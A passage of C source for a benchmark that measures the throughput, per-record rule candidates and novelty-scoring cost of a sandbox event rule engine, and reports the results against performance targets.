	for (uint32_t i = 0; i < NR_EVENTS; i++) {
		uint64_t c0 = engine__stats(b->engine)->candidates;
		int k = __builtin_ctz(EVBIT(events[b->next & (NR_EVENTS - 1)].kind));

		bench__one(b);
		cands[k] += engine__stats(b->engine)->candidates - c0;
		count[k]++;
	}
	for (int k = 0; k < kinds; k++)
		per_kind[k] = count[k] ? (double)cands[k] / count[k] : 0;
}

static void bench__fini(struct bench *b)
{
	sandboxes__free(b->sandboxes);
	engine__free(b->engine);
	ruleset__fini(&b->rs);
}

/* ns of the thread's CPU time per record scored for novelty, over secs. */
static double novelty__measure(struct nbench *nb, double secs)
{
	double t0 = clock__secs(CLOCK_MONOTONIC);
	double c0 = clock__secs(CLOCK_THREAD_CPUTIME_ID);
	uint64_t n = 0;

	do {
		nbench__run(nb, CLOCK_EVERY, TICK_NS);
		n += CLOCK_EVERY;
	} while (clock__secs(CLOCK_MONOTONIC) - t0 < secs);
	return (clock__secs(CLOCK_THREAD_CPUTIME_ID) - c0) * 1e9 / n;
}

/* ---------------------------------------------------------------- report */

static int dbl__cmp(const void *a, const void *b)
{
	double x = *(const double *)a, y = *(const double *)b;

	return (x > y) - (x < y);
}

static double median(const double *v, int n)
{
	double s[64];

	memcpy(s, v, n * sizeof(*s));
	qsort(s, n, sizeof(*s), dbl__cmp);
	return n % 2 ? s[n / 2] : (s[n / 2 - 1] + s[n / 2]) / 2;
}

/* Median absolute deviation, in % of the median. */
static double spread(const double *v, int n)
{
	double m = median(v, n), d[64];

	for (int i = 0; i < n; i++)
		d[i] = v[i] > m ? v[i] - m : m - v[i];
	return median(d, n) / m * 100;
}

/* CPU to pin to: BENCH_RULES_CPU, else the last one allowed (CPU 0
 * usually takes more interrupts). */
static int cpu__pin(void)
{
	cpu_set_t set;
	int cpu = (int)env__num("BENCH_RULES_CPU", -1);

	if (cpu < 0) {
		if (sched_getaffinity(0, sizeof(set), &set))
			die("sched_getaffinity: %s", strerror(errno));
		for (int c = 0; c < CPU_SETSIZE; c++)
			if (CPU_ISSET(c, &set))
				cpu = c;
	}
	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	if (sched_setaffinity(0, sizeof(set), &set))
		die("pinning to CPU %d: %s", cpu, strerror(errno));
	return cpu;
}

static void print_row(const struct bench *b)
{
	double eps = median(b->eps, b->runs);

	printf("%-26s %6zu %12.0f %9.0f %11.2f   %5.1f%%\n", b->name,
	       b->rs.nr_rules, eps, 1e9 / eps, median(b->cands, b->runs),
	       spread(b->eps, b->runs));
}

static void print_kinds(struct bench *a, struct bench *b)
{
	static const struct { enum event_kind kind; const char *name; } kinds[] = {
		{ EVENT_OPEN, "open" }, { EVENT_EXEC, "exec" },
		{ EVENT_FORK, "fork" }, { EVENT_EXIT, "exit" },
		{ EVENT_CONNECT, "connect" }, { EVENT_FLOW, "flow" },
	};
	double ka[EV_KINDS], kb[EV_KINDS];

	bench__by_kind(a, ka, EV_KINDS);
	bench__by_kind(b, kb, EV_KINDS);
	printf("candidates per record by type (shipped / +generated):");
	for (size_t i = 0; i < ARRAY_SIZE(kinds); i++) {
		int k = __builtin_ctz(EVBIT(kinds[i].kind));

		printf(" %s %.2f/%.2f", kinds[i].name, ka[k], kb[k]);
	}
	printf("\n");
}

static void print_mix(void)
{
	uint64_t n[EV_KINDS] = { 0 };

	for (uint32_t i = 0; i < NR_EVENTS; i++)
		n[__builtin_ctz(EVBIT(events[i].kind))]++;
	printf("session: %u records in %d sandboxes, replayed in a loop: "
	       "open %.0f%%, exec %.1f%%, fork %.1f%%, exit %.1f%%, "
	       "connect %.1f%%, flow %.1f%%\n", NR_EVENTS, NR_SANDBOXES,
	       n[__builtin_ctz(EVBIT(EVENT_OPEN))] * 100.0 / NR_EVENTS,
	       n[__builtin_ctz(EVBIT(EVENT_EXEC))] * 100.0 / NR_EVENTS,
	       n[__builtin_ctz(EVBIT(EVENT_FORK))] * 100.0 / NR_EVENTS,
	       n[__builtin_ctz(EVBIT(EVENT_EXIT))] * 100.0 / NR_EVENTS,
	       n[__builtin_ctz(EVBIT(EVENT_CONNECT))] * 100.0 / NR_EVENTS,
	       n[__builtin_ctz(EVBIT(EVENT_FLOW))] * 100.0 / NR_EVENTS);
}

static void print_shapes(int extra)
{
	int n[ARRAY_SIZE(shapes)] = { 0 };
	const char *sep = "";

	for (int i = 0; i < extra; i++)
		n[shape__of(i)]++;
	printf("generated rules:");
	for (size_t s = 0; s < ARRAY_SIZE(shapes); s++) {
		if (n[s])
			printf("%s %d %s", sep, n[s], shapes[s].what);
		sep = ",";
	}
	printf("\n");
}

static void print_acts(const struct bench *b, uint64_t scored)
{
	printf("%s: %.2f alerts per 1000 records; acts: %llu alert, %llu freeze "
	       "(then thawed), %llu kill (then forgotten)\n", b->name,
	       b->alerts * 1000.0 / scored, (unsigned long long)b->acts[LEVEL_ALERT],
	       (unsigned long long)b->acts[LEVEL_FREEZE],
	       (unsigned long long)b->acts[LEVEL_KILL]);
}

/* One rule set alone for secs, for a profiler (BENCH_RULES_ONLY). */
static int bench__profile(struct bench *b, double secs)
{
	double wall, share;
	uint64_t n = bench__run(b, secs, &wall, &share);

	printf("%s: %.0f events/s of CPU time over %.1fs (%.0f%% of the CPU)\n",
	       b->name, n / (wall * share), wall, share * 100);
	bench__fini(b);
	return 0;
}

int main(void)
{
	double secs = env__num("BENCH_RULES_SECS", 1);
	int rounds = (int)env__num("BENCH_RULES_ROUNDS", 5);
	int extra = (int)env__num("BENCH_RULES_EXTRA", 1000);
	const char *only = getenv("BENCH_RULES_ONLY");
	struct bench a = { 0 }, b = { 0 };
	struct nbench *nb;
	char bname[64];
	double wall, share, ea, eb, ratio, novelty_ns[64], nns;
	int cpu;

	if (secs <= 0 || rounds < 1 || rounds > 64 || extra < 0)
		die("bad BENCH_RULES_SECS, BENCH_RULES_ROUNDS (1-64) or BENCH_RULES_EXTRA");
	if (only && strcmp(only, "shipped") && strcmp(only, "generated"))
		die("BENCH_RULES_ONLY is shipped or generated, not '%s'", only);
	cpu = cpu__pin();
	world__init();
	events__init();
	snprintf(bname, sizeof(bname), "shipped + %d generated", extra);
	bench__init(&a, "shipped", 0);
	bench__init(&b, bname, extra);
	nb = nbench__new(env__num("BENCH_BASELINE_PATTERNS", 10000), events,
			 NR_EVENTS);
	if (!nb)
		die("out of memory");
	fprintf(stderr, "rules-bench: %d rounds of %gs per rule set on CPU %d\n",
		rounds, secs, cpu);

	bench__run(&a, WARMUP_SECS, &wall, &share);
	bench__run(&b, WARMUP_SECS, &wall, &share);
	if (only)
		return bench__profile(only[0] == 's' ? &a : &b, secs * rounds);
	for (int r = 0; r < rounds; r++) {
		struct bench *first = r % 2 ? &b : &a, *second = r % 2 ? &a : &b;

		bench__measure(first, secs);
		bench__measure(second, secs);
		novelty_ns[r] = novelty__measure(nb, secs);
	}
	nns = median(novelty_ns, rounds);

	ea = median(a.eps, a.runs);
	eb = median(b.eps, b.runs);
	ratio = ea / eb;
	printf("\n== Rule engine: records/s through engine__event on one core (CPU %d), "
	       "median of %d runs of %gs ==\n", cpu, rounds, secs);
	printf("(events/s: per second of the thread's CPU time, wall time when "
	       "nothing else runs on CPU %d)\n", cpu);
	print_mix();
	if (extra)
		print_shapes(extra);
	printf("%-26s %6s %12s %9s %11s   %6s\n", "rule set", "rules", "events/s",
	       "ns/event", "candidates", "spread");
	print_row(&a);
	print_row(&b);
	printf("(candidates: rules evaluated per record, after the index; spread: "
	       "median absolute deviation of the runs)\n");
	print_kinds(&a, &b);
	print_acts(&a, engine__stats(a.engine)->events);
	print_acts(&b, engine__stats(b.engine)->events);
	if (a.preempted + b.preempted)
		printf("WARNING: %d of %d runs had less than 95%% of CPU %d: "
		       "other work ran there (it also evicts the engine's caches), "
		       "numbers are noisier than usual\n",
		       a.preempted + b.preempted, a.runs + b.runs, cpu);

	printf("\n== Targets (reported, not asserted) ==\n");
	printf(">= 1,000,000 events/s, shipped rules: %.0f -> %s\n", ea,
	       ea >= TARGET_EPS ? "met" : "missed");
	printf("< 2x slowdown with %d more rules:    %.2fx -> %s\n", extra, ratio,
	       ratio < TARGET_RATIO ? "met" : "missed");
	printf("< 200 ns a record scored for novelty, %zu patterns: %.0f ns "
	       "(the shipped rules: %.0f ns an event, same rounds), %llu "
	       "anomalies -> %s\n", nbench__patterns(nb), nns, 1e9 / ea,
	       (unsigned long long)nbench__anomalies(nb),
	       nns < TARGET_NOVELTY_NS ? "met" : "missed");

	if (!a.alerts || !b.alerts) {
		printf("BROKEN: the session raised no alert: the rogue records no "
		       "longer match the shipped rules\n");
		return 1;
	}
	bench__fini(&a);
	bench__fini(&b);
	return 0;
}
